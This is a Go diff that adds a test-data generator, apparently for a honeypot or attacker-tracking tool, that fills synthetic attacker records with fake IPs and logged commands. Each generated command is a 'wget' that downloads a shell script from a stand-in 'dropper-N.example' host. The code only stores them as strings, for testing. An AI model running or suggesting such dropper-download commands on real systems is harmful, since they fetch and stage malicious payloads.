@@ -46,3 +46,19 @@ func Crowd(tags int) Graph {
 	}
 	return g
 }
+
+// Commanders returns attackers who have typed commands that differ: most texts are rare.
+func Commanders(number int) Graph {
+	var g Graph
+	for n := range number {
+		a := attacker(fmt.Sprintf("%08x-0000-4000-8000-%012x", n*2654435761%(1<<32), n), "")
+		a.IP, a.LastSeen = fmt.Sprintf("198.18.%d.%d", n/250, n%250), at(n)
+		for k := range 4 {
+			a.Commands = append(a.Commands, storage.Command{
+				Command: new(fmt.Sprintf("wget http://dropper-%d.example/%x.sh", n, n*7919+k)), Timestamp: new(at(n + k)),
+			})
+		}
+		g.Attackers = append(g.Attackers, a)
+	}
+	return g
+}
